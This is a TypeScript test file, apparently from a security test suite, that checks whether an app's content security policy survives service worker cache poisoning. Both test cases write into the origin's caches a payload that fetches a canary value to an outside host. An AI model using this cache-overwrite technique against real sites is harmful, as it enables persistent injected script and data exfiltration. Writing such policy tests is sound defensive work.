/**
 * Channels through the app's own service worker: whatever a script puts into the cache from which it answers comes
 * back as a response of this origin. It must come back under the policy, or the worker is a way out.
 */
import type { Channel } from "./channel.ts";

export const keptFileChannels = [
  {
    id: "kept-worker",
    family: "worker",
    run: async ({ http, canary }) => {
      const source = `void fetch("${http}/x?${canary}", { mode: "no-cors" })`;
      const headers = { "Content-Type": "text/javascript", "Cross-Origin-Embedder-Policy": "require-corp" };
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        await cache.put("/assets/attack-kept.js", new Response(source, { headers }));
      }
      attack.kept.push(new Worker(attack.scriptUrl("/assets/attack-kept.js")));
    },
  },
  {
    id: "kept-document",
    family: "frame",
    run: async ({ http, canary }) => {
      const source = `<!doctype html><script>void fetch("${http}/x?${canary}", { mode: "no-cors" })</script>`;
      const headers = { "Content-Type": "text/html" };
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        await cache.put("/", new Response(source, { headers }));
      }
      location.href = "/cases";
    },
  },
] as const satisfies readonly Channel[];
